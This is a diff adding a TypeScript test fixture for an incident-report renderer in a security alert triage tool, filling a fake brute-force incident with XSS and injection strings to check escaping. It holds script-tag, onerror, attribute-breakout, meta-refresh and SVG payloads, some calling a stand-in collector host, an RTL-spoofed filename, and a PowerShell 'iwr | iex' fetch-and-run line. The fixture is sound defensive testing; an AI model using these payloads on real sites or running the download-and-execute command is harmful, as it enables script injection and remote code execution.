@@ -1,0 +1,284 @@
+import type { ReportInput } from '../../../activities/report/render';
+import type { IncidentView } from '../../../db/views';
+import type { Classification } from '../../../domain/alert';
+import type { Signal } from '../../../domain/signal';
+import type { Assessment } from '../../../domain/verdict';
+
+/** Texts an attacker could put into an alert, or a provider into an answer. */
+export const HOSTILE = {
+  script: '<script>window.pwned = 1</script>',
+  image: '"><img src="http://collector.example/x.png" onerror="window.pwned = 2">',
+  attribute: `' onmouseover='window.pwned = 3' x="`,
+  style: '</style><style>body { display: none }</style>',
+  template: '{{#each this}}{{{constructor}}}{{/each}}',
+  refresh: '<meta http-equiv="refresh" content="0;url=http://collector.example/">',
+  comment: '--></title><!-- <svg/onload=window.pwned=4>',
+  reversed: 'invoice\u202efdp.exe',
+  link: 'http://user:pw@login.evil.example/verify?id=1',
+} as const;
+
+const CLASSIFICATION: Classification = { alert_type: 'brute_force', confidence: 1, reasons: ['the source says so'] };
+const AT = '2026-11-23T02:10:00.000000Z';
+
+export const SIGNALS: Signal[] = [
+  {
+    source: 'virustotal',
+    name: 'engines_malicious',
+    level: 'high',
+    points: 65,
+    reliability: 'B',
+    evidence: '1/virustotal/ip:185.220.101.1',
+    observable: 'ip:185.220.101.1',
+    sentence: '12 of 91 engines call it malicious; 10 make it high',
+  },
+  {
+    source: 'iocs',
+    name: 'known_ioc',
+    level: 'critical',
+    points: 88,
+    reliability: 'B',
+    evidence: '1/iocs/ip:185.220.101.1',
+    observable: 'ip:185.220.101.1',
+    sentence: `Listed as Tor exit by ${HOSTILE.script}`,
+  },
+  {
+    source: 'playbook',
+    name: 'privileged_account',
+    level: 'low',
+    points: 10,
+    reliability: 'C',
+    evidence: '1/score',
+    sentence: 'The account administrator is privileged',
+  },
+];
+
+function assessment(): Assessment {
+  return {
+    verdict: 'malicious',
+    score: 92,
+    complete: false,
+    missing: [
+      {
+        source: 'virustotal',
+        observable: 'domain:login.evil.example',
+        state: 'waiting',
+        reason: `The quota of the day is spent ${HOSTILE.image}`,
+        until: '2026-11-24T00:00:00.000000Z',
+      },
+      {
+        source: 'geoip',
+        observable: 'ip:185.220.101.1',
+        state: 'failed',
+        reason: 'No answer in 15 minutes',
+        until: null,
+      },
+    ],
+    signals: SIGNALS,
+    guards: [
+      {
+        observable: 'ip:9.9.9.9',
+        list: 'public-dns',
+        version: '2026-11',
+        kind: 'benign',
+        cap: 15,
+        reason: `A public DNS resolver ${HOSTILE.attribute}`,
+      },
+    ],
+    clean: [],
+    ledger: [
+      { rule: 'noisy_or', text: 'Three signals combine to 92', numbers: { score: 92, signals: 3 } },
+      { rule: 'malicious_from', text: `92 reaches 70 ${HOSTILE.template}`, numbers: { score: 92, threshold: 70 } },
+    ],
+    explanation: `Malicious: the address is a known attacker and 12 engines agree ${HOSTILE.style}`,
+    policy: 'a'.repeat(64),
+    site: 'b'.repeat(64),
+  };
+}
+
+function auditRow(seq: number, action: string, summary: string): IncidentView['audit'][number] {
+  return {
+    chain: 'INC-7K3M9QX2AB',
+    incident_id: 'INC-7K3M9QX2AB',
+    seq,
+    action_key: `1/${action}`,
+    at: `2026-11-23T02:10:0${seq}.000000Z`,
+    action,
+    status: 'ok',
+    actor: 'worker',
+    provider: null,
+    observable: null,
+    failures: 0,
+    duration_ms: 12 * seq,
+    summary,
+    detail: {},
+    raw_sha256: null,
+    workflow_run_id: '0199a-run',
+    prev_hash: '0'.repeat(64),
+    hash: 'c'.repeat(64),
+  };
+}
+
+function audit(): IncidentView['audit'] {
+  return [
+    auditRow(1, 'accept', `Alert ALT-0000000001 from firewall ${HOSTILE.refresh}`),
+    auditRow(2, 'claim', 'Run 1 works on the incident'),
+    {
+      ...auditRow(3, 'lookup', `12 of 91 engines ${HOSTILE.comment}`),
+      provider: 'virustotal',
+      observable: 'ip:185.220.101.1',
+      failures: 2,
+    },
+    auditRow(4, 'score', 'malicious, 92 of 100'),
+  ];
+}
+
+function hostileAlert(): IncidentView['alerts'][number] {
+  return {
+    alert_id: 'ALT-0000000001',
+    source_alert_id: `FW-1${HOSTILE.script}`,
+    classification: CLASSIFICATION,
+    extra: {},
+    raw_sha256: 'd'.repeat(64),
+    source: 'firewall',
+    alert_type: 'brute_force',
+    severity: 'high',
+    timestamp: '2026-11-23T02:09:58.000000Z',
+    title: HOSTILE.image,
+    src_ip: '185.220.101.1',
+    username: HOSTILE.attribute,
+    file_name: HOSTILE.reversed,
+    url: HOSTILE.link,
+    command_line: `powershell -c "iwr ${HOSTILE.link} | iex" ${HOSTILE.template}`,
+    description: `${HOSTILE.style}${HOSTILE.comment}${HOSTILE.refresh}`,
+    raw_log: 'A'.repeat(9_000),
+    failed_attempts: 48,
+    format: 'canonical',
+    received_at: AT,
+  };
+}
+
+function hostileView(): IncidentView {
+  return {
+    id: 'INC-7K3M9QX2AB',
+    version: 4,
+    status: 'investigating',
+    resolution: null,
+    alert_type: 'brute_force',
+    severity: 'high',
+    source: `firewall ${HOSTILE.script}`,
+    title: `48 failed logons as administrator ${HOSTILE.script}`,
+    assignee: null,
+    verdict: 'malicious',
+    verdict_state: 'provisional',
+    score: 92,
+    complete: false,
+    missing: [],
+    machine_verdict: 'malicious',
+    override: null,
+    explanation: 'Malicious: the address is a known attacker',
+    verdict_timeline: [
+      {
+        at: '2026-11-23T02:10:04.500000Z',
+        verdict: 'malicious',
+        state: 'provisional',
+        score: 92,
+        by: 'machine',
+        reason: 'Round 1',
+      },
+    ],
+    alert_count: 1,
+    first_seen: '2026-11-23T02:09:58.000000Z',
+    last_seen: '2026-11-23T02:09:58.000000Z',
+    correlation: null,
+    classification: CLASSIFICATION,
+    decision: null,
+    alerts: [hostileAlert()],
+    observables: [
+      { type: 'ip', value: '185.220.101.1', roles: ['source'], flags: [] },
+      { type: 'domain', value: 'login.evil.example', roles: ['link'], flags: [] },
+      { type: 'url', value: HOSTILE.link, roles: ['link', 'mentioned'], flags: [] },
+      { type: 'host', value: `dc01${HOSTILE.script}`, roles: ['alerted_host'], flags: ['internal_name'] },
+      { type: 'ip', value: '10.0.0.5', roles: ['destination'], flags: ['private', 'own'] },
+    ],
+    enrichments: [
+      {
+        source: 'virustotal',
+        observable: 'ip:185.220.101.1',
+        state: 'ok',
+        until: null,
+        summary: '12 of 91 engines',
+        at: AT,
+      },
+      {
+        source: 'geoip',
+        observable: 'ip:185.220.101.1',
+        state: 'failed',
+        until: null,
+        summary: `HTTP 502 ${HOSTILE.script}`,
+        at: AT,
+      },
+      {
+        source: 'virustotal',
+        observable: 'domain:login.evil.example',
+        state: 'waiting',
+        until: '2026-11-24T00:00:00.000000Z',
+        summary: 'Quota spent',
+        at: AT,
+      },
+    ],
+    signals: SIGNALS,
+    analyst_notes: '',
+    audit: audit(),
+    created_at: AT,
+    updated_at: AT,
+  };
+}
+
+/** A malicious brute-force incident whose every text tries to break out of the page. */
+export function hostileReport(changes: Partial<ReportInput> = {}): ReportInput {
+  return {
+    view: hostileView(),
+    decision: {
+      outcome: 'escalate',
+      status: 'escalated',
+      resolution: null,
+      reason: `The verdict is malicious ${HOSTILE.script}`,
+      recommendations: [
+        `Block 185.220.101.1 at the edge ${HOSTILE.image}`,
+        'Reset the password of administrator',
+        `Do not open ${HOSTILE.link}`,
+      ],
+    },
+    assessment: assessment(),
+    playbookTitle: 'Brute force',
+    generatedAt: '2026-11-23T02:10:05.000000Z',
+    version: 1,
+    head: { seq: 4, hash: 'c'.repeat(64) },
+    simulated: true,
+    publicUrl: 'http://127.0.0.1:8080',
+    ...changes,
+  };
+}
+
+/** The same incident before its first scoring round. */
+export function pendingReport(): ReportInput {
+  const view: IncidentView = {
+    ...hostileView(),
+    verdict: 'unknown',
+    verdict_state: 'pending',
+    score: null,
+    machine_verdict: null,
+    explanation: null,
+    signals: [],
+    enrichments: [],
+    verdict_timeline: [],
+  };
+  const decision = {
+    outcome: 'open',
+    status: 'open',
+    resolution: null,
+    reason: 'The verdict is unknown',
+    recommendations: [],
+  } as const;
+  return hostileReport({ view, decision: { ...decision, recommendations: [] }, assessment: null, simulated: false });
+}
